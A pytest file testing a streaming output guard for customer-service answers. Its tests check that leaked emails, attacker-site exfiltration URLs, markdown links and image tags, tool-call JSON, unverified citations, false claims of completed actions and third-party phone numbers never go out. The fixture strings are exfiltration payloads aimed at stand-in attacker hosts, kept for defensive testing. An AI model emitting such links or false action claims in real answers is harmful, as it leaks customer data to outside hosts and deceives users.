"""The incremental output guard (graphs/nodes/answer_stream.py) on its own: what it releases while text is still
arriving, what it holds back, and how the final answer relates to what went out."""

from __future__ import annotations

import asyncio
import json
import random

import pytest
from graphs_testkit import *  # noqa: F403 - the shared pytest fixtures
from interlock.graphs.models import StreamingScriptedChatModel, scripted_chain
from interlock.graphs.nodes.answer_stream import ProgressiveAnswer, SegmentVerdict
from interlock.graphs.rag import citation_gate, name_sources
from langchain_core.messages import AIMessage

pytestmark = pytest.mark.usefixtures("graphs_home")

SECRETS = {
    "email": "mallory.fenwick@partner-freight.com",
    "url": "https://exfil.attacker-site.com/c?d=ORD-1001",
    "markdown": "[see the form](https://forms.attacker-site.com/x)",
    "image": '<img src="https://img.attacker-site.com/p.png?q=ORD-1001">',
}
ANSWER = ("Thanks for getting in touch about your order. It left our warehouse yesterday and is on its way. "
          f"For pallet questions write to {SECRETS['email']} at any time. "
          f"Tracking lives at {SECRETS['url']} for now. Please fill in {SECRETS['markdown']} if it is late. "
          f"Here is the label: {SECRETS['image']} as sent. We will email you again when it is delivered.")
FRAGMENTS = ("mallory", "fenwick", "partner-freight", "attacker", "exfil", "forms.", "img src", "p.png")


async def _feed(answer: ProgressiveAnswer, text: str, sizes: tuple[int, int], seed: int) -> list[str]:
    """Feed `text` in random-size pieces; the released pieces, as they were released."""
    rng = random.Random(seed)
    pos = 0
    while pos < len(text):
        step = rng.randint(*sizes)
        await answer.feed(text[pos:pos + step])
        pos += step
        await asyncio.sleep(0)  # let the checks run beside the "provider"
    await answer._settle()
    return list(answer._sent)


@pytest.mark.parametrize("seed", range(4))
async def test_values_split_across_tokens_never_go_out(seed: int) -> None:
    answer = ProgressiveAnswer({"messages": []})
    released = await _feed(answer, ANSWER, (1, 5), seed)
    assert released, "text went out before the end"
    final, verdicts = await answer.finish(AIMessage(content=ANSWER))
    pieces = list(answer._sent)
    assert "".join(pieces) == final.content and final.id and final.id.startswith("lc_run")
    for piece in pieces:
        for fragment in FRAGMENTS:
            assert fragment not in piece, (fragment, piece)
    for fragment in FRAGMENTS:
        assert fragment not in final.content
    assert final.content.startswith("Thanks for getting in touch")
    assert "interlock_stream" not in final.response_metadata
    assert verdicts and verdicts[0]["guard"] == "output"


async def test_first_segment_goes_out_while_the_model_writes() -> None:
    model = StreamingScriptedChatModel(replies=[ANSWER], chunk_chars=3, token_delay_s=0.01)
    gateway = scripted_chain(model, tiers=("answer",))
    answer = ProgressiveAnswer({"messages": []})
    task = asyncio.create_task(gateway.ainvoke("answer", [], stream=answer))
    for _ in range(500):  # polls the released text: the point is what went out while the task still ran
        if answer._sent or task.done():
            break
        await asyncio.sleep(0.01)
    assert answer._sent and not task.done(), "a segment was released before the reply was complete"
    assert answer._sent[0] == "Thanks for getting in touch about your order. "
    reply, _ = await task
    assert reply.content == ANSWER
    final, _ = await answer.finish(reply)
    assert final.content == "".join(answer._sent)


async def test_tool_call_json_in_content_is_never_streamed() -> None:
    call = json.dumps({"name": "get_order", "arguments": {"order_id": "ORD-1001"}})
    for text in (call, f"```json\n{call}\n```", f"<tool_call>{call}</tool_call>"):
        answer = ProgressiveAnswer({"messages": []})
        assert not await _feed(answer, text + " Done. More text follows here.", (2, 6), 1)
        assert not answer.released
        await answer.discard()
    answer = ProgressiveAnswer({"messages": []})
    released = await _feed(answer, f"Let me check that for you now. {call} and more. And more.", (2, 6), 2)
    assert released == ["Let me check that for you now. "]


async def test_rag_gate_holds_until_a_verified_citation_and_stops_at_a_bad_one() -> None:
    chunks = [{"chunk_id": "abcdef1234567890", "title": "Refunds", "section": "Timing",
               "text": "Refunds are paid back within 5 business days."}]
    gate = citation_gate(chunks)
    text = ("Here is what our help centre says. Refunds are paid within 5 business days [#abcdef12]. "
            "Gift cards are refunded instantly [#zzzzzzzz]. That is all.")
    answer = ProgressiveAnswer({"messages": [], "retrieved": chunks}, segment_check=gate, gate_until_pass=True)
    rng_sizes = (3, 7)
    released = await _feed(answer, text[:40], rng_sizes, 3)
    assert released == [], "nothing goes out before a sentence with a verified citation"
    released = await _feed(answer, text[40:], rng_sizes, 3)
    out = "".join(released)
    assert out.startswith("Here is what our help centre says. Refunds are paid")
    assert "(Refunds › Timing) [#abcdef12]" in out and "zzzz" not in out, out
    assert answer.problems == ["citation"]
    # The node falls back to another answer: it keeps the streamed id and says it replaced the text.
    final, verdicts = await answer.finish(AIMessage(content="From our help centre: refunds take 5 days."))
    assert final.response_metadata["interlock_stream"]["replaced"] is True
    assert final.id and final.id.startswith("lc_run") and final.content.startswith("From our help centre")
    assert any(v["guard"] == "stream" and v["replaced"] for v in verdicts)
    # A model answer that checks out whole is the continuation of what went out.
    good = ProgressiveAnswer({"messages": [], "retrieved": chunks}, segment_check=gate, gate_until_pass=True)
    raw = "Refunds are paid within 5 business days [#abcdef12]. Nothing else is needed."
    await _feed(good, raw, (2, 4), 4)
    final, _ = await good.finish(AIMessage(content=name_sources(raw, chunks)))
    assert "interlock_stream" not in final.response_metadata and final.content == "".join(good._sent)


async def test_a_failed_provider_is_failed_over_only_before_text_went_out() -> None:
    fresh = ProgressiveAnswer({"messages": []}, segment_check=lambda s: SegmentVerdict(text=s))
    await fresh.feed("Half a sen")
    assert fresh.restart() and fresh._raw == ""
    await fresh.feed("A whole sentence went out. And")
    await fresh._settle()
    assert fresh.released and not fresh.restart()
    await fresh.discard()


async def test_a_claimed_action_waits_for_the_whole_answer_check() -> None:
    from interlock.graphs.nodes.answer_stream import action_claim_check

    text = ("Thanks for your patience with this. I have cancelled your order ORD-1001 just now. "
            "You will get an email shortly.")
    answer = ProgressiveAnswer({"messages": []}, segment_check=action_claim_check)
    released = await _feed(answer, text, (2, 5), 5)
    assert released == ["Thanks for your patience with this. "] and answer.problems == ["action_claim"]
    honest = "Thanks for your patience with this. I could not cancel the order: no cancellation was made."
    final, _ = await answer.finish(AIMessage(content=honest))
    assert final.content == honest == "".join(answer._sent) and "interlock_stream" not in final.response_metadata
    for claim in ("Your order has been refunded.", "We've just updated your address.", "It is now cancelled.",
                  "I cancelled it.", "The invoice was sent to you."):
        assert action_claim_check(claim).stop == "action_claim", claim
    for fine in ("Refunds are processed within 5 days.", "I can cancel it if you confirm.", "Orders ship daily.",
                 "Do you want me to update the address?"):
        assert action_claim_check(fine).stop is None, fine


@pytest.mark.parametrize("seed", range(2))
async def test_a_third_party_value_from_a_tool_result_is_caught_across_chunks(seed: int) -> None:
    from interlock.graphs.nodes.guards import output_filter
    from interlock.policies.pii import PiiVault, pseudonymise

    vault = PiiVault()
    tool_text = "Courier contact: Desmond Okonkwo-Hale, phone +44 20 7946 0321, email d.okonkwo@freightline.co.uk"
    pseudonymise(output_filter().detector, tool_text, vault, trusted=False, direction="input")
    assert vault.entries, "the tool result's values are in the vault as third-party values"
    text = ("Your parcel is with the courier now. You can call them on +44 20 7946 0321 "
            "or write to d.okonkwo@freightline.co.uk, they answer quickly. We will keep you posted.")
    answer = ProgressiveAnswer({"messages": [], "pii_vault": vault.to_state()})
    released = await _feed(answer, text, (1, 4), seed)
    assert released and released[0] == "Your parcel is with the courier now. "
    final, _ = await answer.finish(AIMessage(content=text))
    assert final.content == "".join(answer._sent)
    for piece in answer._sent:
        for fragment in ("7946", "0321", "okonkwo", "freightline"):
            assert fragment not in piece.lower(), (fragment, piece)


async def test_an_uncited_answer_streams_each_sentence_a_passage_backs_with_its_citation() -> None:
    from interlock.graphs.rag import Attributor
    from interlock.graphs.retrieval.embeddings import get_embedder

    chunks = [{"chunk_id": "abcdef1234567890", "title": "Refunds", "section": "Timing",
               "text": "Refunds are issued to the original payment method within 5 to 7 business days. "
                       "Your bank may take a further 2 to 3 business days to show the refund."}]
    attributor = Attributor(chunks, get_embedder().embed)
    backed = ("Refunds are issued within 5 to 7 business days, to the original payment method. "
              "Your bank may take a further 2 to 3 business days to show the refund.")
    answer = ProgressiveAnswer({"messages": [], "retrieved": chunks}, segment_check=citation_gate(chunks, attributor),
                               gate_until_pass=True)
    released = await _feed(answer, backed, (3, 7), 6)
    # The first sentence went out whole (not cut at its comma) while the reply was incomplete, with the citation
    # the final check attaches; the last one goes out when the reply is complete.
    first = backed.split(" Your")[0] + " "
    assert released == [name_sources(attributor.attribute(first) or "", chunks)], released
    final_text = name_sources(attributor.attribute(backed) or "", chunks)
    final, _ = await answer.finish(AIMessage(content=final_text))
    assert final.content == final_text == "".join(answer._sent) and "interlock_stream" not in final.response_metadata
    assert final_text.count("(Refunds › Timing) [#abcdef12]") == 2
    # A sentence no passage backs is held, and so is everything after it (no citation opens the gate).
    unbacked = ProgressiveAnswer({"messages": [], "retrieved": chunks},
                                 segment_check=citation_gate(chunks, attributor), gate_until_pass=True)
    assert not await _feed(unbacked, "Refunds are always paid in cash at the counter. " + backed + " More", (3, 7), 7)
    await unbacked.discard()
